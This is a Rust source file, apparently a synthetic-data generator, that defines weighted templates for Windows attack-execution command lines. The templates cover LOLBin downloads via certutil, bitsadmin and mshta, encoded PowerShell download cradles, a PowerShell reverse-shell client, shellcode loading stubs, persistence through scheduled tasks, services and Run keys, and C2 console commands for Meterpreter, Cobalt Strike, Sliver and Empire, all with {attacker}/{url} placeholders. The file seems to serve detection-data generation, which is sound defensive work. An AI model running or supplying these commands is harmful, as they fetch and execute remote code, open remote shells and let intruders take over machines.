//! Execution: downloads, script hosts, signed binaries that run others' code.

use crate::generate::family::{Family, Kind::Cmd, Kind::Console, Kind::Ps, Kind::Told};

pub const FAMILIES: &[Family] = &[
    Family::other("execution-download", "execution-download", Cmd, &[
        "certutil«.exe» ⟦-urlcache¦«-split»¦-f⟧ {url} {o}« && {o}»",
        "certutil -verifyctl -f -split {url} {o}",
        "bitsadmin /transfer {stem} «/download ¦/priority foreground ¦/priority high »{url} {o}",
        concat!(
            "bitsadmin /create {stem.1} & bitsadmin /addfile {stem.1} {url} {o} & bitsadmin ",
            "/SetNotifyCmdLine {stem.1} {o} NUL & bitsadmin /resume {stem.1}",
        ),
        "curl«.exe» «-s ¦-k ¦-L ¦-sSfL ¦--insecure »«-o ¦--output »{o} {url}",
        "curl -O {url} && start {stem}.exe",
        r#"powershell -c "(New-Object Net.WebClient).DownloadFile('{url}','{o}')""#,
        r#"powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('{url}')""#,
        "powershell «-ep bypass ¦»iwr {url} -OutFile {o}; {o}",
        "desktopimgdownldr /lockscreenurl:{url} /eventName:{stem}",
        concat!(
            r#""C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.{20000..25000}.{1..9}-0\MpCmdRun.exe" "#,
            "-DownloadFile -url {url} -path {o}",
        ),
        r"esentutl.exe /y \\{attacker}\{share}\{stem}.exe /d {o} /o",
        r"extrac32 /Y /C \\{attacker}\{share}\{stem}.cab {o}",
        r"expand \\{attacker}\{share}\{stem}.bat {o}",
        r"findstr /V /L {alnum10} \\{attacker}\{share}\{stem}.exe > {o}",
        r"print /D:{o} \\{attacker}\{share}\{stem}.exe",
        r"replace \\{attacker}\{share}\{stem}.exe {dir} /A",
        r"copy \\{attacker}\{share}\{stem}.exe {o} & {o}",
        r"xcopy \\{attacker}\{share}\{stem} {dir} /y /i",
        r"ftp -s:{dir}\{stem}.txt",
        "echo open {attacker}> {stem}.txt & echo get {stem}.exe>> {stem}.txt & ftp -s:{stem}.txt",
        "tftp -i {attacker} GET {stem}.exe {o}",
        "hh.exe {url}",
        concat!(
            r#"«mshta¦mshta.exe» «{url}¦http://{attacker}/{stem}.hta¦vbscript:Close(Execute("GetObject(""script"#,
            r#":{url}"")"))¦javascript:a=GetObject("script:{url}").Exec();close();»"#,
        ),
        concat!(
            "«imewdbld¦ieexec¦configsecuritypolicy¦wmplayer¦msohtmed¦winword¦excel¦powerpnt¦presentationhost¦",
            "xwizard RunWizard /taero /u {{GUID}}¦squirrel --download¦update --download».exe {url}",
        ),
        "certoc.exe -GetCACAPS {url}",
        r"cmdl32 /vpn /lan {dir}\{stem}.txt",
        r#""%ProgramFiles%\Windows Media Player\wmplayer.exe" {url}"#,
        "wget {url} -O {o}",
        r"cscript //nologo {dir}\{stem}.vbs {url} {o}",
        r"git clone {url} {dir} & python {dir}\{stem}.py",
        r#"nslookup -q=txt {stem}.{fqdn} & powershell -c "$a=(nslookup -q=txt {fqdn})[-1]; iex $a""#,
        r"7z x {stem}.7z -p{password} -o{dir} & {dir}\{stem}.exe",
    ])
    .slots(&[
        ("o", r"«{dir}\{stem}.exe¦{dir}\{stem}.dll¦{outfile}¦{dir}\{stem}.{anyext}¦%TEMP%\{stem}.exe»"),
    ])
    .weight(14),
    Family::other("signed-binaries", "execution-proxy", Cmd, &[
        concat!(
            "rundll32«.exe» {dll},«{stem}¦DllRegisterServer¦Start¦#1¦DllMain¦Run¦#{1..40}¦Control_RunDLL»« ",
            "{b64_20}»",
        ),
        concat!(
            r#"rundll32 javascript:"\..\mshtml,RunHTMLApplication "#,
            r#"";document.write();h=new%20ActiveXObject("WScript.Shell").Run("{stem}.exe")"#,
        ),
        concat!(
            "rundll32.exe «advpack.dll,LaunchINFSection {stem}.inf,DefaultInstall_SingleUser,1,¦ieadvpack.dll",
            ",RegisterOCX {dll}¦shell32.dll,Control_RunDLL {dll}¦shell32.dll,ShellExec_RunDLL ",
            r"{dir}\{stem}.exe¦url.dll,OpenURL {dir}\{stem}.hta¦url.dll,FileProtocolHandler ",
            r"{dir}\{stem}.exe¦zipfldr.dll,RouteTheCall {dir}\{stem}.exe¦pcwutl.dll,LaunchApplication ",
            r"{dir}\{stem}.exe¦syssetup.dll,SetupInfObjectInstallAction DefaultInstall 128 ",
            "{stem}.inf¦setupapi.dll,InstallHinfSection DefaultInstall 128 ",
            "{stem}.inf¦dfshim.dll,ShOpenVerbApplication {url}¦mshtml.dll,PrintHTML ",
            r"{dir}\{stem}.html¦desk.cpl,InstallScreenSaver {dir}\{stem}.scr¦-sta {{GUID}}»",
        ),
        "regsvr32«.exe» ⟦/s¦/n¦/u⟧ /i:{url} scrobj.dll",
        "regsvr32 /s {dll}",
        r"regsvr32.exe /s /u /i:{dir}\{stem}.sct scrobj.dll",
        concat!(
            r"«msbuild¦C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe» ",
            r"{dir}\{stem}.«xml¦csproj¦proj»« /nologo»",
        ),
        concat!(
            r"C:\Windows\Microsoft.NET\Framework«64»\v«4.0.30319¦2.0.50727»\«InstallUtil.exe /logfile= ",
            r"/LogToConsole=false /U¦RegAsm.exe /U¦RegSvcs.exe¦csc.exe /out:{dir}\{stem}.exe¦jsc.exe¦vbc.exe ",
            r"/target:exe¦AddInProcess.exe /guid:{guid} /pid:{pid}¦aspnet_compiler.exe -v none -p C:\{stem} ",
            r"-f¦dfsvc.exe¦ilasm.exe» {dir}\{stem}.cs",
        ),
        r"cmstp«.exe» /«s¦ni /s¦au¦s /ns» {dir}\{stem}.inf",
        "odbcconf«.exe» «/a {REGSVR {dll}}¦/S /A {REGSVR {dll}}¦-f {stem}.rsp»",
        "mavinject«.exe» {pid} /INJECTRUNNING {dll}",
        concat!(
            r"msiexec«.exe» /«q¦quiet¦qn¦passive» /i «{url}¦http://{attacker}:{port}/{stem}.msi¦{dir}\{stem}.m",
            r"si¦\\{attacker}\{share}\{stem}.png»",
        ),
        "msiexec /y {dll}",
        r#"wmic process call create "{dir}\{stem}.exe«  -{alnum4}»""#,
        r#"wmic os get /format:"{url}""#,
        "wmic.exe process list /format:evil.xsl & msxsl.exe {stem}.xml {stem}.xsl",
        r"pcalua.exe -a {dir}\{stem}.exe« -c {alnum4}»",
        r"forfiles /p c:\windows\system32 /m notepad.exe /c {dir}\{stem}.exe",
        concat!(
            "«ftp -s:{stem}.txt¦pubprn.vbs 127.0.0.1 script:{url}¦winrm.vbs invoke Create ",
            r#"wmicimv2/Win32_Process @{CommandLine="{stem}.exe"} "#,
            r#"-r:http://{host}:5985¦SyncAppvPublishingServer.exe "n; Start-Process "#,
            r#"{stem}.exe"¦SyncAppvPublishingServer.vbs "n; iex(iwr "#,
            r#"{url})"¦CL_Invocation.ps1¦manage-bde.wsf¦slmgr.vbs¦diskshadow.exe -exec {stem}.exe»"#,
        ),
        concat!(
            "«bginfo.exe {stem}.bgi /popup /nolicprompt¦dnx.exe¦rcsi.exe {stem}.csx¦csi.exe ",
            r"{stem}.csx¦tracker.exe /d {dll} /c C:\Windows\write.exe¦te.exe {stem}.wsc¦fsi.exe ",
            "{stem}.fsx¦wsl.exe -e /mnt/c/{stem}¦bash.exe -c {stem}¦devtoolslauncher.exe LaunchForDeploy ",
            r#"{stem}.exe¦vsjitdebugger.exe {stem}.exe¦sqlps.exe -c "{stem}"¦sqltoolsps.exe -noprofile -c "#,
            r"{stem}¦runscripthelper.exe surfacecheck \\?\{dir}\{stem}.txt {dir}¦infdefaultinstall.exe ",
            r#"{stem}.inf¦verclsid.exe /S /C {{GUID}}¦ttdinject.exe /ClientParams "{stem}" /Launch "#,
            "{stem}.exe¦stordiag.exe¦wlrmdr.exe -s 3600 -f 0 -t _ -m _ -a 11 -u {stem}.exe¦conhost.exe ",
            r#"--headless {stem}.exe¦explorer.exe /root,"{dir}\{stem}.exe"¦scriptrunner.exe -appvscript "#,
            "{stem}.exe¦iexpress.exe /n /q {stem}.sed¦ieframe.dll¦register-cimprovider.exe -path ",
            "{dll}¦workfolders.exe¦offlinescannershell.exe¦dxcap.exe -c {stem}.exe¦appvlp.exe ",
            "{stem}.bat¦openconsole.exe {stem}¦hyperkms.exe¦acccheckconsole.exe»",
        ),
        r"control.exe {dir}\{stem}.«cpl¦dll»",
        concat!(
            "«wscript¦cscript»«.exe» «//B ¦//E:jscript ¦//nologo ¦/b ¦//E:vbscript ",
            r"»{dir}\{stem}.«js¦vbs¦jse¦vbe¦wsf¦txt¦jpg»",
        ),
        "dllhost.exe /Processid:{{GUID}} & rundll32 {dll},#{1..9}",
        r"at \\{host} {10..23}:{10..59} {dir}\{stem}.bat",
        r#"schtasks /run /tn {stem} & start "" {dir}\{stem}.lnk"#,
        r"cmd«.exe» /«c¦k¦r» «start /min ¦start /b ¦»{dir}\{stem}.«bat¦cmd¦exe¦vbs»",
        r"cmd /c echo {alnum12} ^> \\.\pipe\{alnum6}",
        r#"python -c "import base64,zlib;exec(zlib.decompress(base64.b64decode('{b64_120}')))""#,
        r"java -jar {dir}\{stem}.jar -{alnum3}",
        r"node {dir}\{stem}.js & deno run -A {url} & bun {stem}.ts",
        r"AutoIt3.exe {dir}\{stem}.a3x",
        r#""C:\Program Files\AutoHotkey\AutoHotkey.exe" {dir}\{stem}.ahk"#,
        r#"winword.exe /q /n "{docfile}" /mFileOpen"#,
        r#"cmd.exe /c "copy /b {stem}.a+{stem}.b {dir}\{stem}.exe & {dir}\{stem}.exe""#,
    ])
    .slots(&[
        ("dll", concat!(
                r"«{dir}\{stem}.dll¦{dir}\{stem}.{anyext}¦{dir}\{stem}.ocx¦\\{attacker}\{share}\{stem}.dll¦C:\Wind",
                r"ows\System32\spool\drivers\color\{stem}.dll»",
            )),
    ])
    .weight(16),
    Family::other("encoded-powershell", "execution-encoded", Cmd, &[
        "{psexe} {f} {b64_80}«==¦=¦»",
        "{psexe} {f} {b64_200}{b64_120}«==¦=¦»",
        "{psexe} {f} {b64_200}{b64_200}{b64_200}«==¦=¦»",
        concat!(
            "{psexe} {f} SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA{b64",
            "_120}",
        ),
        concat!(
            "{psexe} {f} JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0ACAAUwB5AHMAdABlAG0ALgBOAGUAdAAu",
            "{b64_160}",
        ),
        "cmd«.exe» /c «start /b /min ¦»{psexe} {f} {b64_160}=",
        "%COMSPEC% /b /c start /b /min {psexe} -nop -w hidden -encodedcommand {b64_200}{b64_80}",
        concat!(
            r#"{psexe} -c "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAA{b64_200}{b6"#,
            "4_60}'));IEX (New-Object IO.StreamReader(New-Object ",
            r#"IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();""#,
        ),
        r#"{psexe} -c "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64_200}'))|iex""#,
        concat!(
            r#"{psexe} {f2} "$a='{b64_120}';$b=[Convert]::FromBase64String($a);iex([Text.Encoding]::Unicode.Get"#,
            r#"String($b))""#,
        ),
        concat!(
            r#"schtasks /create /tn {stem} /tr "{psexe} -w hidden -enc {b64_120}" /sc «onlogon¦minute /mo "#,
            "{5..60}¦daily» /f",
        ),
        r#"sc create {stem} binpath= "%COMSPEC% /c {psexe} -nop -w hidden -enc {b64_160}" start= auto"#,
        concat!(
            r#"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v {stem} /d "{psexe} -w hidden -enc "#,
            r#"{b64_160}" /f"#,
        ),
        r#"wmic /node:{host} process call create "{psexe} -enc {b64_160}""#,
        r"echo {b64_120} > {dir}\{stem}.txt & certutil -decode {dir}\{stem}.txt {dir}\{stem}.exe",
        "set {alnum3.1}={b64_40}&& {psexe} -enc %{alnum3.1}%",
        r#"mshta vbscript:CreateObject("WScript.Shell").Run("powershell -enc {b64_120}",0)(window.close)"#,
        concat!(
            r#"{psexe} {f2} "&([scriptblock]::Create((New-Object IO.StreamReader(New-Object "#,
            "IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{b64_200}'),[IO.Compr",
            r#"ession.CompressionMode]::Decompress))).ReadToEnd()))""#,
        ),
    ])
    .slots(&[
        ("f", concat!(
                "«-e¦-ec¦-enc¦-EncodedCommand¦-nop -w hidden -enc¦-NoP -NonI -W Hidden -Enc¦-noni -nop -w hidden ",
                "-e¦-ep bypass -enc¦-NoLogo -NonInteractive -ExecutionPolicy Unrestricted ",
                "-EncodedCommand¦-NoProfile -EncodedCommand¦-sta -w 1 -enc¦/e¦-EncodedCommand»",
            )),
        ("f2", "«-nop -c¦-ep bypass -command¦-w hidden -c¦-noni -nop -c¦-c»"),
    ])
    .weight(14),
    Family::other("execution-scripts", "execution-scripts", Ps, &[
        "IEX«¦ »((New-Object Net.WebClient).DownloadString('{url}'))",
        "iex (iwr «-UseBasicParsing ¦-useb ¦»'{url}')«.Content»",
        concat!(
            "(New-Object «System.»Net.WebClient).DownloadFile('{url}', '{outfile}'); «Start-Process¦&» ",
            "'{outfile}'",
        ),
        concat!(
            "$wc = New-Object Net.WebClient; $wc.Headers.Add('User-Agent','Mozilla/5.0'); ",
            "$wc.Proxy.Credentials = [Net.CredentialCache]::DefaultNetworkCredentials; IEX ",
            "$wc.DownloadString('{url}')",
        ),
        concat!(
            "[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('{url}')).EntryPoint.Invoke(",
            "$null, @(,[string[]]@('{stem}')))",
        ),
        concat!(
            "[System.Reflection.Assembly]::Load([Convert]::FromBase64String($b64)); ",
            "[«Rubeus¦Seatbelt¦SharpUp¦{alnum6}».Program]::Main('«kerberoast¦-group=all¦audit¦{stem}»'.Split(",
            "))",
        ),
        concat!(
            r#"$code = '[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a, uint s, "#,
            r#"uint t, uint p); [DllImport("kernel32.dll")] public static extern IntPtr CreateThread(IntPtr a, "#,
            "uint s, IntPtr f, IntPtr p, uint c, IntPtr i);'; $w = Add-Type -MemberDefinition $code -Name ",
            "{alnum4} -Namespace {alnum5} -PassThru",
        ),
        concat!(
            "[Byte[]]$buf = 0xfc,0x48,0x83,0xe4,0xf0,0xe8,0x{hex2},0x00,0x{hex2},0x00,0x41,0x51; $p = ",
            "[{alnum5}.{alnum4}]::VirtualAlloc(0, $buf.Length, 0x3000, 0x40); ",
            "[Runtime.InteropServices.Marshal]::Copy($buf, 0, $p, $buf.Length)",
        ),
        concat!(
            "Invoke-«Shellcode -Payload windows/meterpreter/reverse_https -Lhost {attacker} -Lport {port} ",
            "-Force¦ReflectivePEInjection -PEBytes $b -ProcName {stem}¦DllInjection -ProcessID {pid} -Dll ",
            r"{psdir}\{stem}.dll¦Expression $c¦WmiMethod -Class Win32_Process -Name Create -ArgumentList ",
            "'{stem}.exe'¦CimMethod -ClassName Win32_Process -MethodName Create -Arguments ",
            r"@{CommandLine='{stem}.exe'}¦Item {psdir}\{stem}.lnk¦RestMethod {url} | iex¦PSInject -ProcId ",
            "{pid} -PoshCode {b64_40}»",
        ),
        concat!(
            "$c = New-Object Net.Sockets.TCPClient('{attacker}',{port}); $s = $c.GetStream(); [byte[]]$b = ",
            "0..65535|%{0}; while(($i = $s.Read($b,0,$b.Length)) -ne 0){ $d = (New-Object ",
            "Text.ASCIIEncoding).GetString($b,0,$i); $r = (iex $d 2>&1 | Out-String); $sb = ",
            "([text.encoding]::ASCII).GetBytes($r); $s.Write($sb,0,$sb.Length) }",
        ),
        "Start-BitsTransfer -Source {url} -Destination {psout}; & {psout}",
        concat!(
            "$xml = New-Object -ComObject MsXml2.ServerXmlHttp; $xml.Open('GET','{url}',0); $xml.Send(); iex ",
            "$xml.ResponseText",
        ),
        concat!(
            "$ie = New-Object -ComObject InternetExplorer.Application; $ie.Navigate('{url}'); iex ",
            "$ie.Document.body.innerText",
        ),
        concat!(
            "$o = [activator]::CreateInstance([type]::GetTypeFromProgID('«MMC20.Application¦Excel.Application",
            "¦ShellBrowserWindow¦Outlook.Application»', '{host}')); ",
            "$o.Document.ActiveView.ExecuteShellCommand('cmd',$null,'/c {stem}.exe','7')",
        ),
        concat!(
            "(New-Object -ComObject «WScript.Shell).Run('{stem}.exe')¦Shell.Application).ShellExecute('{stem}",
            ".exe')¦Schedule.Service).Connect()»",
        ),
        concat!(
            "Set-ExecutionPolicy «Bypass¦Unrestricted¦RemoteSigned» -Scope ",
            r"«Process¦CurrentUser¦LocalMachine» -Force; .\{stem}.ps1",
        ),
        r#"powershell -version 2 -c "{stem}"; [Ref].Assembly.GetTypes()"#,
        concat!(
            "$t = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-w hidden -enc {b64_80}'; ",
            "Register-ScheduledTask -TaskName {stem} -Action $t -Trigger (New-ScheduledTaskTrigger -AtLogOn)",
        ),
        "&('i'+'ex') (&('n'+'ew-object') ('net'+'.webclient')).('down'+'loadstring').Invoke('{url}')",
        r"$a=[char[]](105,101,120) -join ''; & $a (Get-Content {psdir}\{stem}.txt -Raw)",
        "-join ('{hex40}' -split '(..)' | ? { $_ } | % { [char][convert]::ToUInt32($_,16) }) | iex",
        r"Get-Content {psdir}\{stem}.ps1 | powershell -noprofile -",
        r".\{stem}.exe «-{alnum3} ¦--{stem} ¦/{alnum2} »{alnum6}",
        r"Add-Type -TypeDefinition (Get-Content {psdir}\{stem}.cs -Raw); [{alnum6}]::Run('{attacker}',{port})",
        r#"pwsh -c "import-module {psdir}\{stem}.psm1; Invoke-{alnum5}""#,
        "Install-Module {alnum6} -Force; {alnum6}",
    ])
    .weight(14),
    Family::other("execution-console", "execution-console", Console, &[
        concat!(
            r"beacon> «execute {dir}\{stem}.exe¦execute-assembly {shdir}/{stem}.exe¦powershell-import ",
            "{shdir}/PowerView.ps1¦powerpick Get-Process¦psinject {pid} x64 Get-Domain¦shinject {pid} x64 ",
            "{stem}.bin¦dllinject {pid} {stem}.dll¦dllload {pid} {stem}.dll¦inline-execute {shdir}/{stem}.o ",
            r"{alnum4}¦spawn x64 {stem}¦shell {dir}\{stem}.bat¦run notepad.exe¦runu {pid} cmd.exe¦inject ",
            "{pid} x64 {stem}¦argue powershell.exe -nop¦checkin¦sleep {5..90} {10..40}¦spawnto x86 ",
            r"%windir%\syswow64\dllhost.exe¦upload {shdir}/{stem}.exe»",
        ),
        concat!(
            "[*] Tasked beacon to «run .NET program: {stem}.exe¦run: {stem}¦inject {stem} into {pid}¦import: ",
            "{shdir}/{stem}.ps1¦sleep for {1..300}s ({10..50}% jitter)»",
        ),
        concat!(
            "meterpreter > «execute -f {stem}.exe -i -H¦execute -f cmd.exe -c -i -H¦shell¦load ",
            r#"powershell⏎meterpreter > powershell_execute "Get-Process"¦load python⏎meterpreter > "#,
            r#"python_execute "print(1)"¦migrate {pid}¦run post/windows/manage/migrate¦run "#,
            r"post/windows/manage/payload_inject¦upload {stem}.exe C:\\Windows\\Temp¦run ",
            "multi_console_command -rc {stem}.rc¦irb¦channel -l¦bgrun {stem}¦execute_dotnet_assembly ",
            "{stem}.exe»",
        ),
        concat!(
            "use exploit/«multi/handler¦windows/smb/psexec¦windows/smb/ms17_010_eternalblue¦windows/misc/hta_",
            "server¦multi/script/web_delivery¦windows/fileformat/office_word_macro¦windows/http/exchange_prox",
            "yshell_rce¦multi/http/log4shell_header_injection¦windows/local/payload_inject¦windows/winrm/winr",
            "m_script_exec»⏎set PAYLOAD windows/x64/meterpreter/reverse_«tcp¦https»⏎set LHOST {attacker}⏎set ",
            "LPORT {port}⏎«exploit -j¦run¦exploit»",
        ),
        concat!(
            "sliver > generate «--mtls {attacker}¦beacon --http {attacker} --os windows¦--format shellcode ",
            "--mtls {attacker}» --save {shdir}",
        ),
        concat!(
            "sliver ({ALNUM8}) > «execute -o {stem}.exe¦execute-assembly {shdir}/{stem}.exe ",
            "{alnum4}¦sideload {shdir}/{stem}.dll¦spawndll {shdir}/{stem}.dll¦execute-shellcode ",
            "{stem}.bin¦shell¦psexec -d {stem} {host}¦upload {stem}.exe¦migrate {pid}¦msf-inject --pid {pid} ",
            "--lhost {attacker}¦inline-execute {stem}.o¦ssh {host} whoami»",
        ),
        concat!(
            "(Empire) > «uselistener http⏎set Host {attacker}⏎execute¦usestager windows/launcher_bat⏎set ",
            "Listener http⏎execute¦agents⏎interact {ALNUM8}¦usemodule ",
            "powershell/code_execution/invoke_shellcode⏎execute¦usemodule ",
            "powershell/management/spawn⏎execute¦shell Get-Process»",
        ),
        concat!(
            "demon > «shellcode inject x64 {pid} {stem}.bin¦dll inject {pid} {stem}.dll¦dotnet ",
            "inline-execute {shdir}/{stem}.exe {alnum4}¦proc create normal {stem}.exe¦powershell ",
            "{stem}¦inline-execute {stem}.x64.o¦sleep {5..60}¦proc blockdll on¦upload {stem}.exe»",
        ),
        concat!(
            "mythic> «shell {stem}.exe¦run {stem}.exe¦execute_assembly -Assembly {stem}.exe -Arguments ",
            "{alnum4}¦inject {pid}¦powershell_import {stem}.ps1¦powershell Get-Process¦jobs¦sleep {5..60} ",
            "{10..40}¦upload¦execute_coff -Coff {stem}.o»",
        ),
        concat!(
            "covenant> «ShellCmd {stem}.exe¦Assembly {stem}.exe¦PowerShell Get-Process¦ShellCode ",
            "{hex40}¦Tasks¦Kill {pid}¦Upload {stem}»",
        ),
        concat!(
            "msfvenom -p windows/«x64/»«meterpreter/reverse_https¦shell_reverse_tcp¦exec CMD={stem}.exe» ",
            "LHOST={attacker} LPORT={port} -f «exe¦dll¦raw¦csharp¦ps1¦hta-psh¦msi» -o {stem}",
        ),
        r#"donut -i {stem}.exe -o {stem}.bin« -p "{alnum4}"»"#,
    ])
    .weight(8),
    Family::other("execution-told", "execution-told", Told, &[
        concat!(
            "{who} «ran¦executed¦launched¦started» «a PowerShell download cradle¦an encoded PowerShell ",
            "command¦a malicious HTA with mshta¦a scriptlet with regsvr32¦shellcode in memory¦a .NET ",
            "assembly in memory¦a batch file¦a macro¦a VBScript¦{stem}.exe¦a renamed binary¦a DLL with ",
            "rundll32¦an XSL script through wmic¦a payload with MSBuild¦a scheduled task on {host}¦a service ",
            "on {host}»{where}.",
        ),
        concat!(
            "{who} downloaded {stem}.exe from {url} with «certutil¦bitsadmin¦curl¦PowerShell¦mshta¦a ",
            "browser»{where}.",
        ),
        "Word started {stem}.exe after {user} enabled macros{where}.",
        concat!(
            "«Alert¦Detection»: «suspicious PowerShell¦encoded command line¦LOLBin abuse¦process ",
            "injection¦malicious document¦Office child process»{where}, user {account}",
        ),
        "Engine state is changed from None to Available. HostApplication={psexe} -nop -w hidden -enc {b64_60}",
        "{plainhost}: winword.exe spawned «cmd.exe¦powershell.exe¦mshta.exe¦wscript.exe» (PID {pid})",
        "The file {stem}.«lnk¦iso¦hta¦js¦docm¦one» was opened from an e-mail by {user}.",
        r"A WMI permanent event ran {dir}\{stem}.vbs{where}.",
        r"Image loaded: C:\Windows\System32\«clr.dll¦amsi.dll¦scrobj.dll¦wmiutils.dll» by {stem}.exe{where}",
        "The command line contained {100..4000} characters of base64{where}.",
        concat!(
            "{who} injected «a beacon¦shellcode¦a DLL» into «explorer.exe¦svchost.exe¦dllhost.exe¦werfault.ex",
            "e» (PID {pid}){where}.",
        ),
    ])
    .weight(8),
];
